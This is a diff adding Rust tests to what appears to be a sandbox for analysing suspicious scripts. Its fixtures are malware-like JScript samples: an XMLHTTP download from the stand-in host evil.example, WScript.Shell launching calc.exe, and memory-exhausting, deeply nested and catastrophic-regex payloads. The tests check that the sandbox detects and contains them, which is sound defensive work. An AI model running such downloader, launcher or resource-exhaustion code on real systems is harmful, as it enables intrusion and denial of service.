@@ -112,3 +112,65 @@ fn names_of_findings_are_unique_and_said_in_words() {
         assert!(name.text().len() > 15 && name.text().ends_with('.'), "{}: {}", name.name(), name.text());
     }
 }
+
+/// In a real cell: the engine makes no call that is not on the list, and nothing it needs is missing.
+#[tokio::test]
+async fn a_script_is_run_behind_the_walls() {
+    let script = b"WScript.Sleep(60000); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a', false); x.send(); \
+                   new Date(); Math.random(); 'x'.localeCompare('y'); /(a|b)+c/.test('abc'); new ActiveXObject('WScript.Shell').Run('calc.exe')";
+    let Some(report) = run(job("a.js"), script).await else { return };
+    assert_eq!(report.contacted(), ["evil.example"], "{:?}", report.timeline);
+    assert_eq!(names(&report), ["SCRIPT", "SCRIPT_LOADS", "SCRIPT_STARTS", "SCRIPT_WAITS"], "{:?}", report.timeline);
+}
+
+/// What no step counter sees ends with the cell, and what was seen before it stays.
+#[tokio::test]
+async fn a_script_that_takes_its_cell_down_leaves_what_was_seen() {
+    let first = "new ActiveXObject('WScript.Shell').Run('calc.exe');";
+    let with = |code: &str| zip(&[("run.exe", &program()), ("a.js", format!("{first}{code}").as_bytes())], None);
+    let limits = Limits { memory: 256 << 20, scripts: Duration::from_millis(500), ..Limits::default() };
+    for (what, code) in [
+        ("memory", "var s = 'x'; while (true) s += s + 'y'"),
+        ("memory in an array", "var a = []; while (true) a.push(new Array(100000).join('x' + a.length))"),
+        ("steps within eval", "eval('function f(n) { return n < 2 ? n : f(n - 1) + f(n - 2) } f(60)')"),
+        ("an expression for ever", "/(a+)+$/.test(new Array(40).join('a') + 'b')"),
+    ] {
+        let began = std::time::Instant::now();
+        let Some(report) = run(Job { limits: limits.clone(), ..job("a.zip") }, &with(code)).await else { return };
+        let found = names(&report);
+        assert!(
+            ["PROGRAM", "SCRIPT", "SCRIPT_STARTS", "SCRIPT_STOPPED"].iter().all(|n| found.contains(n)),
+            "{what}: {found:?} {:?}",
+            report.timeline
+        );
+        assert_eq!(report.parts.len(), 3, "{what}");
+        assert!(began.elapsed() < Duration::from_secs(15), "{what}: {:?}", began.elapsed());
+        println!("{what}: {:?}", began.elapsed());
+    }
+    let off = Limits { scripts: Duration::ZERO, ..Limits::default() };
+    let report = run(Job { limits: off, ..job("a.zip") }, &with("")).await.unwrap();
+    assert!(report.timeline.is_empty() && !names(&report).contains(&"SCRIPT_STARTS"));
+}
+
+/// Texts that are put together from thousands of pieces, and statements within statements: deep trees for the engine.
+#[tokio::test]
+async fn long_sums_are_run_and_what_is_too_deep_leaves_the_rest() {
+    let start = "new ActiveXObject('WScript.Shell').Run(c)";
+    let sum = format!("var c = {}'.exe'; {start}", "'' + ".repeat(20_000));
+    let choices = format!("var a = 1; var c = 'x'; {} {{}} {start}", "if (a == 0) {} else ".repeat(1_000));
+    for (what, script) in [("a sum", sum), ("choices", choices)] {
+        let Some(report) = run(job("a.js"), script.as_bytes()).await else { return };
+        assert!(names(&report).contains(&"SCRIPT_STARTS"), "{what}: {:?} {:?}", names(&report), report.timeline.last());
+    }
+    for (what, script) in [
+        ("choices", "a?b:".repeat(500_000)),
+        ("functions", "a=>".repeat(500_000)),
+        ("statements", "if(a)".repeat(500_000)),
+        ("a sum", format!("{}1", "1+".repeat(1_000_000))),
+    ] {
+        let content = zip(&[("run.exe", &program()), ("a.js", script.as_bytes())], None);
+        let Some(report) = run(job("a.zip"), &content).await else { return };
+        assert!(names(&report).contains(&"PROGRAM") && report.parts.len() == 3, "{what}: {:?}", names(&report));
+        println!("{what}: {:?}", report.findings.last());
+    }
+}
